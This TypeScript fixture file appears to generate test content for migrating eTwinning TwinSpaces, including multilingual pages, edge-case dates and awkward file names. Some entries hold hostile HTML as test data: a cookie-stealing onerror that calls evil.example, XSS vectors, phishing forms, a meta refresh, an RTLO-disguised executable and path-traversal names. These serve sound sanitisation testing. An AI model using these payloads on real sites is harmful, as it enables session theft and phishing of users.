import type { SnapshotItem } from '../../electron/core/sample-platform/snapshot-schema.ts';
import type { AccountKey } from './accounts.ts';
import {
  attachmentsBlock, contentLink, fileLink, fileUrl, imageTag, vimeoEmbed, youtubeEmbed,
} from './html.ts';
import {
  europeanFlagPng, lessonNotesText, qualityLabelCertificatePdf, riverLandscapePng,
  waterQualityCsv,
} from './real-files.ts';
import type { SpaceWriter } from './space-writer.ts';
import { brusselsInstant } from './time.ts';

/**
 * The hand-written part of the world, per space key: the edge dates the rules hinge on, file
 * names no file system likes, embedded videos, hostile HTML, links between items and the real
 * files. Everything else in a space is everyday content (populate.ts).
 */
export interface World {
  writer(key: string): SpaceWriter;
}

type Special = (writer: SpaceWriter, world: World) => void;

const at = brusselsInstant;
const first = <T>(list: readonly T[]): T => {
  if (list.length === 0) throw new Error('expected at least one item');
  return list[0] as T;
};
const pagesOf = (writer: SpaceWriter): SnapshotItem[] => writer.written.filter((item) => item.type === 'page');

/** An id the platform no longer has: the page was deleted, the link in another page stayed. */
export const DELETED_ITEM_ID = 'i-10000';

/** Long names, in bytes of UTF-8, beyond what most file systems take (255). */
export const LONG_DUTCH_NAME = 'Eindverslag van het eTwinningproject Our Rivers, Our Future met alle metingen van de '
  + "waterkwaliteit, de foto's van de excursies naar de Dijle, de Schelde en de Axios, de reflecties van de "
  + 'leerlingen uit Mechelen en Thessaloniki en de evaluatie door de directie – definitieve versie na '
  + 'feedback van alle partners (v7).pdf';
export const LONG_GREEK_NAME = 'Τελική έκθεση του έργου «Τα ποτάμια μας, το μέλλον μας» με όλες τις μετρήσεις '
  + 'ποιότητας νερού από τον Αξιό και τη Ντάιλε και τις φωτογραφίες των μαθητών.pdf';

/** A page written at an exact moment the rules hinge on (see migration-rules.md, "Dates"). */
const edgePage = (writer: SpaceWriter, title: string, stamp: string, html: string, owner: AccountKey = 'lotte'): SnapshotItem =>
  writer.page({ title, at: stamp, owner, html, edited: false });

export const SPECIAL_CONTENT: Record<string, Special> = {
  lerarenkamer: (writer) => {
    writer.page({
      owner: 'koen',
      title: 'Onze Padlet-muur met projectideeën',
      at: at('2019-10-14', 20, 5),
      html: '<h2>Projectideeën</h2><p>Zet je idee op onze Padlet-muur, dan bespreken we ze op de volgende bijeenkomst.</p>'
        + '<div class="padlet-embed"><script src="https://padlet.example/embed.js" data-board="lerarenkamer"></script></div>'
        + '<p>Zie je de muur niet? <a href="https://padlet.example/lerarenkamer/ideeen">Open hem in een nieuw venster</a>.</p>',
    });
    writer.page({
      owner: 'nso',
      title: 'Nieuwsbrief eTwinning Vlaanderen – januari 2021',
      at: at('2021-01-26', 10, 0),
      files: [{ name: 'Europese vlag – 12 sterren.png', title: 'De Europese vlag', content: europeanFlagPng() }],
      html: (files) => `<p>${imageTag(first(files))}</p>`
        + '<h2>Nieuwsbrief januari 2021</h2><p>Beste eTwinner, een gelukkig nieuwjaar! Dit staat er de komende weken op het programma:</p>'
        + '<ul><li>10 februari: webinar <em>Starten met eTwinning</em></li><li>Tot 15 maart: aanvragen Quality Label</li>'
        + '<li>Nieuw: de eTwinning-groep <em>Afstandsonderwijs: tips en tools</em></li></ul>'
        + '<p><a href="https://newsletter.example/view?id=2021-01">Bekijk deze nieuwsbrief in je browser</a></p>'
        + '<img src="https://tracker.example/pixel.gif?campaign=2021-01&amp;u=lerarenkamer" width="1" height="1" alt="">',
    });
    writer.thread({
      owner: 'sofie',
      title: 'Gratis tablets voor je klas!!!',
      at: at('2021-04-07', 3, 12),
      edited: false,
      html: '<p><strong>Gefeliciteerd!</strong> Jouw school maakt kans op 30 gratis tablets. '
        + '<a href="javascript:alert(\'Je bent gehackt\')">Klik hier om je prijs op te halen</a></p>'
        + '<form action="https://phish.example/login" method="post"><input name="email" placeholder="E-mail">'
        + '<input name="password" type="password" placeholder="Wachtwoord"><button>Verstuur</button></form>',
    }, [
      { owner: 'nso', html: '<p>Opgelet: dit bericht is spam. Klik niet op de link en vul niets in. We hebben het account laten beveiligen.</p>' },
      { owner: 'sofie', html: '<p>Sorry allemaal, mijn account was gehackt. Mijn wachtwoord is intussen veranderd.</p>' },
    ]);
    edgePage(writer, 'Verslag contactseminarie juni 2018', '2018-06-30T22:30:00Z',
      '<h2>Contactseminarie Brussel</h2><p>Drie dagen workshops en netwerken. Ik vond partners in Estland en Portugal.</p>');
    edgePage(writer, 'Zomerlectuur voor leerkrachten', '2018-07-01T00:30:00+03:00',
      '<p>Vanuit Kreta nog wat leestips voor de zomer: <em>De meester</em>, <em>Pedagogiek van de hoop</em> en <em>Lesgeven is een kunst</em>.</p>');
    edgePage(writer, 'Fijne vakantie!', '2018-07-01T12:00:00+02:00',
      '<p>Het NSO-team wenst jullie een deugddoende zomer. Vanaf 20 augustus zijn we weer bereikbaar.</p>', 'nso');
    edgePage(writer, 'Inschrijvingen nieuw schooljaar geopend', '2018-07-01T23:30:00Z',
      '<p>Je kan je nu inschrijven voor de startdag van 26 september.</p>', 'nso');
    writer.page({
      owner: 'nso',
      title: 'Opname webinar: starten met eTwinning',
      at: at('2021-02-12', 9, 30),
      html: `<p>Gemist? Bekijk de opname van het webinar van 10 februari:</p>${vimeoEmbed('512384739')}`
        + '<p>Of bekijk ze <a href="https://vimeo.com/512384739">op Vimeo</a>.</p>',
    });
    const pages = pagesOf(writer);
    writer.page({
      owner: 'lotte',
      title: 'Inhoudstafel van de lerarenkamer',
      at: at('2021-09-06', 19, 40),
      html: `<h2>Inhoudstafel</h2><ul>${pages.map((page) => `<li>${contentLink(page)}</li>`).join('')}</ul>`,
    });
  },

  climate: (writer) => {
    edgePage(writer, 'Summer 2018: climate projects kick-off', '2018-06-30T22:30:00Z',
      '<h2>Kick-off</h2><p>Posted late at night after our final staff meeting: which climate projects will you run next year?</p>');
    writer.page({
      owner: 'lotte',
      title: 'Our climate march',
      at: at('2019-03-15', 18, 45),
      files: [
        { name: 'klimaatmars Mechelen 15-03-2019.jpg', title: 'Klimaatmars Mechelen' },
        { name: '100% recycled – poster.png' },
        { name: '#FridaysForFuture.jpg' },
      ],
      html: (files) => '<h2>Our climate march</h2><p>Today 120 pupils marched through Mechelen. Watch the video the 6th graders made:</p>'
        + youtubeEmbed('q7Xb2LwZk4E', 'Klimaatmars Mechelen 2019')
        + `<p>${files.map(imageTag).join('</p><p>')}</p>`,
    });
    writer.thread({
      owner: 'sofie',
      title: 'Photos of our climate poster',
      at: at('2019-11-21', 23, 50),
      files: [{ name: 'climate-poster\u202Egpj.exe', title: 'climate poster (photo)', size: 48_640 }],
      html: '<p>Here are the photos of our climate poster, have a look!</p>',
    }, [
      { owner: 'nso', html: '<p><strong>Warning:</strong> please do not open the attachment above. It is not a photo but a program. We have secured the account.</p>' },
    ]);
    writer.page({
      owner: 'eleni',
      title: 'Minutes 2017 (archive)',
      at: at('2017-05-10', 16, 0),
      files: [{ name: '../minutes-2017.pdf' }, { name: '..\\..\\Verslagen\\maart 2017.docx' }],
      html: '<h2>Archive</h2><p>The minutes of our meetings in 2017, as exported from our old school server.</p>',
    });
    writer.page({
      owner: 'eleni',
      title: 'Our climate collage',
      at: at('2020-02-18', 14, 10),
      files: [{ name: 'collage.png' }],
      html: (files) => '<p>Pupils from Thessaloniki and Mechelen made one collage together.</p>'
        + `<img src="${fileUrl(first(files))}" alt="collage" onerror="this.onerror=null;this.src='https://evil.example/c?'+document.cookie">`,
    });
  },

  codeweek: (writer) => {
    writer.page({
      owner: 'koen',
      title: 'Scratch-opdrachten voor de Code Week',
      at: at('2020-10-08', 17, 0),
      files: [{ name: 'Scratch-opdrachten Code Week 2020.pdf' }, { name: 'kat-sprite.png' }],
      html: '<h2>Scratch in de klas</h2><p>Tien opdrachten van makkelijk tot moeilijk. Werkt ook op tablets.</p>'
        + `<p>Uitleg in video: <a href="https://www.youtube.com/watch?v=Hn3vR8pT0sA">Scratch voor beginners</a></p>`,
    });
  },

  okan: (writer) => {
    writer.page({
      owner: 'sofie',
      title: 'مرحبا – Welkom in onze klas',
      at: at('2019-09-09', 15, 30),
      files: [{ name: 'woordenlijst Nederlands–العربية.pdf' }, { name: 'pictogrammen klasregels.png' }],
      html: '<h2>Welkom!</h2><p lang="ar" dir="rtl">مرحبا بكم في صفنا. نحن سعداء بوجودكم معنا.</p>'
        + '<p>Deze woordenlijst helpt nieuwkomers in de eerste weken. De pictogrammen hangen in elke klas.</p>'
        + '<table><tr><th>Nederlands</th><th>العربية</th><th>English</th></tr><tr><td>goedemorgen</td><td dir="rtl">صباح الخير</td><td>good morning</td></tr>'
        + '<tr><td>dank je</td><td dir="rtl">شكرا</td><td>thank you</td></tr><tr><td>de klas</td><td dir="rtl">الصف</td><td>the classroom</td></tr></table>',
    });
  },

  chinese: (writer) => {
    writer.page({
      owner: 'eleni',
      title: 'Paper lanterns – 灯笼',
      at: at('2020-01-20', 13, 0),
      files: [{ name: '灯笼 template.pdf' }, { name: '我们的灯笼.jpg', title: 'Our lanterns' }],
      html: '<h2>灯笼 – Paper lanterns</h2><p>新年快乐！Our pupils made lanterns for the Year of the Rat. Print the template on red paper.</p>',
    });
  },

  languages: (writer) => {
    writer.page({
      owner: 'sofie',
      title: 'Hallo · Hello · Bonjour · Γεια σας · Здравейте · مرحبا · 你好',
      at: at('2019-09-26', 8, 15),
      files: [{ name: 'vlaggen van Europa.png', title: 'Vlaggen van Europa' }],
      html: (files) => '<h2>Europese Dag van de Talen</h2><p>Hoeveel talen spreken de leerlingen van jouw school? Bij ons zijn het er 23!</p>'
        + `<p>${imageTag(first(files))}</p>`
        + '<ul><li lang="nl">Hallo</li><li lang="en">Hello</li><li lang="fr">Bonjour</li><li lang="el">Γεια σας</li>'
        + '<li lang="bg">Здравейте</li><li lang="ar" dir="rtl">مرحبا</li><li lang="zh">你好</li><li lang="tr">Merhaba</li></ul>',
    });
  },

  wellbeing: (writer) => {
    writer.page({
      owner: 'sofie',
      title: 'Emoties in de klas 💛',
      at: at('2020-09-30', 16, 20),
      files: [{ name: '😊 emotiekaartjes 😢.pdf' }, { name: 'moodmeter 🌡️.png' }],
      html: '<h2>Hoe voel jij je vandaag?</h2><p>Elke ochtend kiezen de leerlingen een kaartje. Zo weten we snel wie een slechte dag heeft.</p>',
    });
  },

  remote: (writer) => {
    const earlierPage = pagesOf(writer)[0];
    writer.page({
      owner: 'koen',
      title: 'Archief: lessen uit de lockdown',
      at: at('2020-06-15', 21, 10),
      html: '<h2>Archief</h2><ul>'
        + `<li><a href="/content/${DELETED_ITEM_ID}">Weekplanning 16 maart</a> (deze pagina werd verwijderd)</li>`
        + (earlierPage ? `<li>${contentLink(earlierPage)}</li>` : '')
        + '<li><a href="https://www.youtube.com/watch?v=bT4kLx7Pq2M">Instructiefilmpje: inloggen op Smartschool</a></li>'
        + '<li><a href="https://youtu.be/bT4kLx7Pq2M?t=42">Hetzelfde filmpje vanaf 0:42</a></li></ul>',
    });
  },

  media: (writer) => {
    writer.page({
      owner: 'koen',
      title: 'Materiaal les 3 – nepnieuws',
      at: at('2022-03-29', 20, 45),
      files: [
        { name: 'CON.txt', title: 'Notities les 3', content: lessonNotesText() },
        { name: 'aux' },
        { name: 'what?.pdf' },
        { name: 'a:b.png' },
        { name: 'notities.' },
        { name: 'planning.docx ' },
        { name: 'LPT1.jpg' },
        { name: 'vraag & antwoord <klas 3A> | "nepnieuws".docx' },
        { name: 'Verslag.pdf' },
        { name: 'verslag.pdf' },
        { name: 'VERSLAG.PDF' },
      ],
      html: '<h2>Les 3: nepnieuws herkennen</h2><p>Alle bestanden van de les. Sommige komen van een Mac, dus de namen zijn wat vreemd.</p>',
    });
    writer.page({
      owner: 'koen',
      title: 'Password quiz (embedded)',
      at: at('2022-05-10', 15, 5),
      html: '<style>.quiz { font-family: "Comic Sans MS"; }</style><div class="quiz"><h2>How strong is your password?</h2>'
        + '<img src="quiz-banner.png" onerror="alert(\'xss\')" alt="">'
        + '<p><a href="JaVaScRiPt:alert(document.domain)">Start the quiz</a></p>'
        + '<svg width="1" height="1" onload="alert(1)"></svg>'
        + '<meta http-equiv="refresh" content="0;url=https://phish.example/"></div>',
    });
  },

  ukraine: (writer) => {
    writer.page({
      owner: 'sofie',
      title: 'Вітаємо! Welkom! – info voor ouders',
      at: at('2022-03-21', 12, 0),
      files: [{ name: 'Словник для батьків – woordenlijst voor ouders.pdf' }],
      html: '<h2 lang="uk">Вітаємо у нашій школі!</h2><p lang="uk">Ми раді, що ви з нами.</p>'
        + '<p>Deze woordenlijst helpt ouders van Oekraïense leerlingen met de eerste schoolweken.</p>',
    });
  },

  'esep-prep': (writer) => {
    writer.page({
      owner: 'nso',
      title: 'Checklist: wat neem je mee naar ESEP?',
      at: at('2022-04-04', 10, 30),
      html: '<h2>Checklist</h2><ol><li>Maak een EU Login met <strong>hetzelfde e-mailadres</strong> als je eTwinning-account.</li>'
        + '<li>Download wat je wil bewaren uit je TwinSpaces: die worden niet gemigreerd.</li>'
        + '<li>Bewaar je contacten: die verhuizen niet mee.</li></ol>'
        + '<p>Meer info: <a href="https://school-education.ec.europa.eu/nl">school-education.ec.europa.eu</a></p>',
    });
  },

  'reading-promo': (writer) => {
    writer.thread({
      owner: 'lotte',
      title: 'Zomerleestips 2022 / Summer reading tips',
      at: at('2022-06-01', 10, 0),
      html: '<p>Welke boeken raden jullie leerlingen aan voor de zomer? Which books do you recommend?</p>',
    }, [
      { owner: 'nso', html: '<p>De jeugdjury heeft een mooie lijst: <a href="https://www.jeugdboekenmaand.example/tips">jeugdboekentips</a>.</p>' },
    ]);
  },

  erasmus: (writer) => {
    edgePage(writer, 'Gelukkig Nieuwjaar en tot in 2021!', '2020-12-31T23:30:00Z',
      '<p>Na dit rare jaar kijken we uit naar nieuwe uitwisselingen. Gelukkig Nieuwjaar!</p>');
    writer.page({
      owner: 'nso',
      title: 'Erasmus+ accreditatie: onze ervaring',
      at: at('2021-05-17', 14, 0),
      html: '<h2>Erasmus+ accreditatie</h2><p>Drie scholen vertellen hoe ze de accreditatie behaalden en wat eTwinning daarin betekende.</p>',
    });
  },
  sinterklaas: (writer) => {
    edgePage(writer, 'Oudejaarsavond in Europa', '2020-12-31T22:30:00Z',
      '<p>Hoe vieren jullie oudejaarsavond? In Spanje eten ze twaalf druiven, in Griekenland snijden ze de vasilopita.</p>');
  },
  'newyear-cards': (writer) => {
    edgePage(writer, 'Happy New Year 2023! 🎆', '2022-12-31T23:30:00Z',
      '<p>Just after midnight: happy new year to all partner classes!</p>');
  },
  carnaval: (writer) => {
    edgePage(writer, 'Carnavalsmaskers 2022', '2022-02-21T23:30:00Z',
      '<p>De maskers van Aalst, Binche en Venetië: de leerlingen maakten hun eigen versie.</p>', 'sofie');
  },
  quiz: (writer) => {
    edgePage(writer, 'Oudejaarsquiz 2022 – de antwoorden / the answers', '2022-12-31T22:30:00Z',
      '<ol><li>Brussel</li><li>24 talen</li><li>1987 (Erasmus)</li><li>12 sterren</li></ol>', 'koen');
  },
  'wishes-2021': (writer) => {
    edgePage(writer, 'Gelukkig 2021! 🎉', '2020-12-31T23:30:00Z',
      '<p>Het is net middernacht: de beste wensen voor 2021 aan alle klassen!</p>');
  },
  'mother-tongue': (writer) => {
    edgePage(writer, '21 februari: onze moedertalen', '2022-02-21T22:30:00Z',
      '<h2>Internationale Dag van de Moedertaal</h2><p>Onze leerlingen spreken thuis 17 talen, onder andere:</p>'
        + '<ul><li lang="ar" dir="rtl">العربية</li><li lang="tr">Türkçe</li><li lang="pl">polski</li><li lang="uk">українська</li>'
        + '<li lang="ti">ትግርኛ</li><li lang="ro">română</li></ul>');
  },

  rivers: (writer) => {
    writer.page({
      owner: 'lotte',
      title: 'Bestanden van de partnerscholen – Files from our partner schools',
      at: at('2019-11-05', 19, 30),
      files: [
        { name: 'Rivière de Liège – résumé.pdf' },
        { name: 'Wij zijn de IJsvogels.docx' },
        { name: 'Lĳst van deelnemers.xlsx' },
        { name: 'Ποταμός Αξιός – μετρήσεις.xlsx', owner: 'eleni' },
        { name: 'Річка Дніпро – фото.jpg' },
        { name: 'نهر شيلده.png' },
        { name: '长江照片.jpg' },
        { name: '🌊 rivier 💧.png' },
        { name: 'Seine à Paris – élèves.jpg' },
        { name: 'Seine a\u0300 Paris – e\u0301le\u0300ves.jpg' },
        { name: '  spaties   in de naam .pdf' },
      ],
      html: (files) => '<h2>Bestanden van de partnerscholen</h2><p>Hier verzamelen we wat de klassen maakten. Here is what the classes made.</p>'
        + attachmentsBlock(files, 'nl'),
    });
    writer.page({
      owner: 'lotte',
      title: 'Metingen waterkwaliteit / Water quality data',
      at: at('2020-02-10', 20, 15),
      files: [
        { name: 'waterkwaliteit-metingen.csv', title: 'Metingen (CSV)', content: waterQualityCsv() },
        { name: 'rivierlandschap-pixelart.png', title: 'Rivierlandschap (tekening 5B)', content: riverLandscapePng() },
      ],
      html: ([csv, drawing]) => '<h2>Metingen</h2><table><thead><tr><th>Rivier</th><th>pH</th><th>Nitraat (mg/l)</th></tr></thead>'
        + '<tbody><tr><td>Dijle</td><td>7,5</td><td>21,5</td></tr><tr><td>Αξιός</td><td>8,05</td><td>23</td></tr><tr><td>Schelde</td><td>7,8</td><td>31</td></tr></tbody></table>'
        + `<p>Alle metingen: ${csv ? fileLink(csv) : ''}</p>${drawing ? `<p>${imageTag(drawing)}</p>` : ''}`,
    });
    writer.journal({
      owner: 'lotte',
      title: 'Excursie naar de Dijle',
      at: at('2019-10-08', 16, 40),
      html: '<p>We maten de temperatuur, de pH en het nitraat. Bekijk ons filmpje:</p>'
        + youtubeEmbed('Zc5mW1yQe9U', 'Excursie Dijle', 'www.youtube-nocookie.com'),
    });
    writer.journal({
      owner: 'eleni',
      title: 'Η εκδρομή μας στον Αξιό – Our trip to the Axios',
      at: at('2019-10-09', 18, 5),
      html: '<p lang="el">Σήμερα οι μαθητές μέτρησαν τη θερμοκρασία και το pH του νερού. Είδαμε πολλά πουλιά!</p>'
        + '<p>Today the pupils measured the temperature and the pH of the water. We saw many birds!</p>',
    });
    writer.journal({
      owner: 'lotte',
      title: 'Video call with Thessaloniki',
      at: at('2020-01-28', 11, 20),
      files: [{ name: 'videogesprek Thessaloniki.mp4', size: 520_000 }],
      html: '<p>Our first live call! The recording is attached; a short version is on '
        + '<a href="https://youtu.be/Zc5mW1yQe9U">YouTube</a>.</p>',
    });
    writer.page({
      owner: 'lotte',
      title: 'Eindverslag – Final report',
      at: at('2020-06-22', 21, 0),
      files: [{ name: LONG_DUTCH_NAME, size: 1_450_000 }, { name: LONG_GREEK_NAME, owner: 'eleni' }],
      html: '<h2>Eindverslag</h2><p>Het volledige verslag in het Nederlands en het Grieks. The full report in Dutch and Greek.</p>',
    });
    writer.page({
      owner: 'lotte',
      title: 'Ons Quality Label 🏅',
      at: at('2021-10-15', 16, 0),
      files: [{ name: 'Quality Label certificaat 2021.pdf', content: qualityLabelCertificatePdf() }],
      html: '<p>Ons project kreeg het National Quality Label! 🎉 Dank aan alle leerlingen en aan onze partners in Thessaloniki.</p>',
    });
  },

  codecity: (writer, world) => {
    writer.page({
      owner: 'lotte',
      title: 'Projectvideo – Code your City',
      at: at('2019-05-20', 19, 0),
      html: '<h2>Onze projectvideo</h2>' + vimeoEmbed('387650214')
        + '<p>De making-of:</p>' + youtubeEmbed('bT4kLx7Pq2M', 'Making-of Code your City', 'www.youtube-nocookie.com')
        + '<ul><li><a href="https://vimeo.com/387650214">Op Vimeo</a></li>'
        + '<li><a href="https://www.youtube.com/watch?v=bT4kLx7Pq2M&amp;list=PL0demo">In onze playlist</a></li></ul>',
    });
    const robotsPage = first(pagesOf(world.writer('robots')));
    writer.page({
      owner: 'koen',
      title: 'Robots van Koen – ideeën voor volgend jaar',
      at: at('2019-06-03', 17, 30),
      html: `<p>In ons project ${contentLink(robotsPage)} programmeerden de leerlingen robots. Dat wil ik hier ook proberen.</p>`,
    });
    writer.page({
      owner: 'koen',
      title: 'Logowedstrijd – de inzendingen',
      at: at('2018-10-10', 15, 0),
      files: [{ name: 'Logo.png' }, { name: 'logo.png' }, { name: 'logo (1).png' }],
      html: '<p>Drie inzendingen, stem op je favoriet in het forum!</p>',
    });
    writer.material(null, { name: 'Eindpresentatie Code your City.pptx', size: 420_000, owner: 'lotte' }, at('2020-05-28', 20, 0));
  },

  voices: (writer) => {
    writer.journal({
      owner: 'lotte',
      title: 'Interview met mijn overgrootvader',
      at: at('2018-02-06', 15, 45),
      files: [{ name: 'interview overgrootvader.mp4', size: 680_000 }],
      html: '<p>Jonas (14) interviewde zijn overgrootvader over de bevrijding van Mechelen in september 1944.</p>',
    });
    writer.page({
      owner: 'eleni',
      title: 'Letters from 1944',
      at: at('2018-03-12', 12, 0),
      html: '<h2>Letters from 1944</h2><p>Archival film about the liberation of Thessaloniki:</p>'
        + youtubeEmbed('Xk3v9QpL2aE', 'Liberation of Thessaloniki 1944')
        + '<p>More footage: <a href="https://vimeo.com/645012873">vimeo.com/645012873</a></p>',
    });
  },

  fairy: (writer) => {
    writer.page({
      owner: 'sofie',
      title: 'Roodkapje in vier talen',
      at: at('2018-11-14', 16, 0),
      files: [{ name: 'Roodkapje – tekeningen 4A.pdf' }, { name: 'Κοκκινοσκουφίτσα – ζωγραφιές.jpg', owner: 'eleni' }],
      html: '<table><tr><th>Taal</th><th>Titel</th></tr><tr><td>Nederlands</td><td>Roodkapje</td></tr><tr><td>English</td><td>Little Red Riding Hood</td></tr>'
        + '<tr><td>Ελληνικά</td><td>Κοκκινοσκουφίτσα</td></tr><tr><td>Français</td><td>Le Petit Chaperon rouge</td></tr></table>',
    });
    writer.journal({
      owner: 'lotte',
      title: 'Onze sprookjesfilm is klaar!',
      at: at('2019-05-27', 19, 0),
      html: `<p>Alle klassen speelden een scène. Het resultaat:</p>${vimeoEmbed('348716539')}`,
    });
  },

  scientists: (writer) => {
    writer.page({
      owner: 'eleni',
      title: 'Πείραμα 1: Το ηφαίστειο – Experiment 1: the volcano',
      at: at('2020-11-09', 13, 30),
      files: [{ name: 'ηφαίστειο.jpg' }],
      html: '<p lang="el">Χρειαζόμαστε μαγειρική σόδα, ξύδι και κόκκινο χρώμα.</p><p>We need baking soda, vinegar and red food colouring.</p>',
    });
    writer.journal({
      owner: 'eleni',
      title: 'Καλώς ήρθατε! Welcome, Belgian friends!',
      at: at('2020-10-12', 9, 0),
      html: '<p lang="el">Καλώς ήρθατε στο έργο μας!</p><p>Welcome to our project!</p>',
    });
  },

  bridge: (writer) => {
    writer.page({
      owner: 'lotte',
      title: 'Нашето училище – Our school in Plovdiv',
      at: at('2015-11-16', 18, 0),
      files: [{ name: 'Писма от България.pdf' }, { name: 'Коледни картички.jpg' }],
      html: '<p lang="bg">Здравейте от Пловдив! Нашето училище има 600 ученици.</p>'
        + '<p>Our partners from Plovdiv wrote this page; I posted it for them.</p>',
    });
  },

  spring: (writer) => {
    writer.page({
      owner: 'eleni',
      title: '春节快乐！Happy Spring Festival',
      at: at('2020-01-24', 10, 0),
      files: [{ name: '红包.png' }, { name: '舞龙 dragon dance.jpg' }],
      html: '<p lang="zh">春节快乐！我们的学生做了红包。</p><p>Happy Spring Festival! Our pupils made red envelopes.</p>',
    });
  },

  robots: (writer) => {
    writer.page({
      owner: 'koen',
      title: 'Bouwplan robotarm',
      at: at('2019-02-20', 16, 0),
      files: [{ name: 'bouwplan robotarm.pdf' }],
      html: '<p>Het bouwplan dat we in de les gebruikten.</p>',
    });
  },
};
